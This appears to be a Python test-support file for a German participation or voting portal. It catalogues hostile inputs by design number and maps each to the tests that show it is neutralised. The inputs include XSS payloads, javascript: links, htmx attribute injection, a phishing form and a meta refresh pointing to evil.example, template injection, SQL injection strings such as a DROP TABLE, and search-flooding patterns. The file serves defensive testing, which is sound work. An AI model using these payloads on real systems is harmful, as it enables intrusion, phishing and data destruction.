"""Hostile inputs by their number in the design, and the tests that show that each is harmless here.

The inputs themselves are facts; what must come of them stands in the tests. test_tables.py shows that none is
forgotten. Numbers that are not here (H04, H08, …) are kept elsewhere.
"""

from __future__ import annotations

# Markdown and HTML that people could type into any text; each is read by others in a real browser.
TYPED = {
    "H01": "<script>alert(1)</script>",
    "H02": "<img src=x onerror=alert(1)>",
    "H03": "<svg onload=alert(1)>",
    "H05": "[x](JaVaScRiPt&colon;alert(1))",
    "H06": "[x](java&#x0A;script:alert(1))",
    "H07": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "H09": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "H15": '<div data-hx-post="/runde/1/stimme" data-hx-trigger="load" data-hx-vals=\'{"a":1}\'></div>',
    "H17": '<form action="https://evil.example"><input name=code><button>Anmelden</button></form>',
    "H18": "![t](https://tracker.example/p.gif?u=1)",
    "H19": "[https://stadt.example/login](https://evil.example/login)",
    "H21": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    # Our own: what the scripts of the page listen to.
    "own 1": '<a data-hx-get="/de/account/export" data-hx-trigger="load, revealed">x</a>',
    "own 2": '<p hx-on::load="alert(1)" onfocus=alert(1) autofocus tabindex=1 data-list>x</p>',
    "own 3": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=//evil.example/>",
    "own 4": '"><svg/onload=alert(1)>\' autofocus onfocus=alert(1) x="',
}
FILE_NAME = 'x"><svg onload=alert(1)>.jpg'
QUERIES = {
    "H22": (
        "' OR 1=1--",
        "name'; DROP TABLE proposal;--",
        "%27)%20UNION%20SELECT",
        "1 AND (SELECT 1)=1",
        "newest,(SELECT 1)",
        "\x00",
        "9" * 40,
        "-1",
        "ＡＢＣ\u202e",
    ),
    "H24": ("q[author_email_start]=a", "author__email__startswith=a", "author_id=4", "hidden=1", "draft=1"),
    "H25": ("%%%%%%%%%%_%_%_" * 125, "\\", '"' * 500, "NEAR(a b)", "a* OR b*"),
}

BROWSER = "browser/test_hostile.py::test_what_others_typed_is_only_text"
PICTURES = "content/test_pictures.py"
NAMES = (
    "accounts/test_hostile_sign_in.py::test_hostile_names",
    "core/test_names.py::test_bad_names_are_refused_for_their_reason",
)
REAL_NAMES = (
    "accounts/test_hostile_sign_in.py::test_honest_names",
    "core/test_names.py::test_real_names_are_accepted",
)
REDIRECTS = (
    "web/test_redirects.py::test_no_string_leads_away",
    "accounts/test_hostile_sign_in.py::test_next_never_leaves_the_portal",
)
CSV = (
    "core/test_csvsafe.py::test_formulas_get_an_apostrophe",
    "opendata/test_files.py::test_no_cell_becomes_a_formula",
)
COVERED: dict[str, tuple[str, ...]] = {
    **dict.fromkeys(
        ("H01", "H02", "H03", "H05", "H06", "H07", "H09", "H15", "H17", "H18"),
        (
            BROWSER,
            "core/test_text.py::test_attacks_become_text",
        ),
    ),
    "H11": ("browser/test_hostile.py::test_a_file_name_is_not_shown",),
    "H13": ("trust/test_hostile.py::test_only_addresses_that_are_addresses",),
    "H19": (BROWSER, "core/test_text.py::test_links_show_where_they_lead"),
    "H21": (BROWSER,),
    "H22": ("trust/test_hostile.py::test_strange_parameters_are_a_harmless_miss",),
    "H24": ("trust/test_hostile.py::test_there_are_no_other_filters",),
    "H25": (
        "trust/test_hostile.py::test_search_is_quick",
        "core/test_search.py::test_hostile_questions_are_answered_quickly",
    ),
    **dict.fromkeys(("H26", "H27", "H29", "H31", "H32"), NAMES),
    **dict.fromkeys(("H34", "H35", "H37"), REAL_NAMES),
    "H39": (
        "accounts/test_hostile_sign_in.py::test_names_that_look_alike",
        "core/test_names.py::test_names_that_look_alike_share_a_skeleton",
    ),
    **dict.fromkeys(("H40", "H41", "H42", "H43", "H44", "H48"), REDIRECTS),
    "H49": ("accounts/test_hostile_sign_in.py::test_host_header_is_not_believed",),
    "H52": (
        "core/test_mailsafe.py::test_hostile_words_add_no_header_and_no_body",
        "notifications/test_delivery.py::test_titles_cannot_write_headers",
    ),
    **dict.fromkeys(
        ("H53", "H54"),
        (
            "core/test_mailsafe.py::test_anything_but_one_address_is_refused",
            "accounts/test_hostile_sign_in.py::test_hostile_addresses",
        ),
    ),
    **dict.fromkeys(("H55", "H56", "H57", "H58", "H59", "H60"), CSV),
    "H66": (
        f"{PICTURES}::test_a_polyglot_loses_its_tail",
        f"{PICTURES}::test_a_picture_is_served_with_safe_headers",
    ),
    **dict.fromkeys(
        ("H67", "H68", "H69", "H71", "H72"),
        (f"{PICTURES}::test_hostile_files_are_refused_and_leave_nothing",),
    ),
    "H73": (f"{PICTURES}::test_twenty_a_day_and_no_more", f"{PICTURES}::test_room_is_limited_and_comes_back"),
    "H75": ("trust/test_hostile.py::test_a_flood_of_fields_is_refused_at_once",),
    "H76": ("trust/test_hostile.py::test_a_body_without_its_boundary_costs_nothing",),
    "H84": ("trust/test_writing.py::test_no_other_site_writes_in_my_name",),
    "H85": (
        "trust/test_walk.py::test_half_of_the_walk",
        "trust/test_walk_more.py::test_the_other_half_of_the_walk",
    ),
    "H87": ("accounts/test_no_enumeration.py::test_addresses",),
    "H88": (
        "accounts/test_sign_in.py::test_five_tries_per_code",
        "accounts/test_sign_in.py::test_brake_makes_codes_longer",
        "rounds/test_letters.py::test_a_slip_is_no_guess_and_five_guesses_are_enough",
        "rounds/test_letters.py::test_the_brake_stops_a_flood_from_many_networks",
    ),
    "H89": (
        "accounts/test_sessions.py::test_replay_after_the_end",
        "trust/test_ex_members.py::test_out_on_the_next_request",
    ),
    "H92": ("web/test_server.py::test_what_a_stranger_says_about_forwarding_is_not_believed",),
    "H94": (
        "trust/test_hostile.py::test_the_portal_calls_nobody",
        "rounds/test_oidc.py::test_a_provider_that_describes_somebody_else_or_sends_us_on",
        "rounds/test_oidc.py::test_redirects_are_not_followed",
        "rounds/test_oidc.py::test_production_wants_https_and_both_settings",
    ),
    "H79": (
        "rounds/test_ballot_pages.py::test_a_double_click_is_one_ballot_and_shows_its_code",
        "rounds/test_box_races.py::test_one_voter_from_everywhere_is_one_ballot",
    ),
    "H80": (
        "rounds/test_ballot_pages.py::test_a_request_that_was_caught_and_sent_again_changes_nothing",
        "rounds/test_ballot_times.py::test_closed_is_closed_for_the_pages_too",
    ),
    "H81": (
        "rounds/test_box_races.py::test_whoever_was_told_counted_is_in_the_file",
        "rounds/test_box.py::test_to_the_second",
        "rounds/test_ballot_times.py::test_too_late_by_a_second_keeps_the_draft_and_says_so",
    ),
    "H82": (
        "rounds/test_box.py::test_nights_in_which_clocks_are_changed",
        "rounds/test_box.py::test_one_clock_decides_for_all_machines",
    ),
    "H83": (
        "rounds/test_ballot_pages.py::test_options_of_other_votes_unknown_and_withdrawn_ones_never_get_in",
        "rounds/test_ballot_pages.py::test_what_is_no_whole_number_is_said_where_it_was_typed",
        "rounds/test_bad_input.py::test_two_numbers_for_one_option_are_none",
    ),
    "H95": (
        "trust/test_writing.py::test_extra_fields_are_ignored",
        "accounts/test_hostile_sign_in.py::test_extra_fields_are_ignored",
    ),
    "H96": ("trust/test_writing.py::test_the_address_decides_and_not_the_body",),
    "H99": ("proposals/test_coauthors.py::test_an_old_link_stays_dead",),
    "H101": ("core/test_text.py::test_hostile_text_of_20_kb_is_fast",),
    "H102": ("web/test_logs.py::test_a_value_never_becomes_a_line_or_a_key_of_its_own",),
}
NOT_YET = {
    "H90": "groups follow",
}
ALL = {
    f"H{number:02}"
    for number in (
        *(1, 2, 3, 5, 6, 7, 9, 11, 13, 15, 17, 18, 19, 21, 22, 24, 25, 26, 27, 29, 31, 32, 34, 35, 37, 39),
        *(40, 41, 42, 43, 44, 48, 49, 52, 53, 54, 55, 56, 57, 58, 59, 60, 66, 67, 68, 69, 71, 72, 73, 75, 76),
        *(79, 80, 81, 82, 83, 84, 85, 87, 88, 89, 90, 92, 94, 95, 96, 99, 101, 102),
    )
}
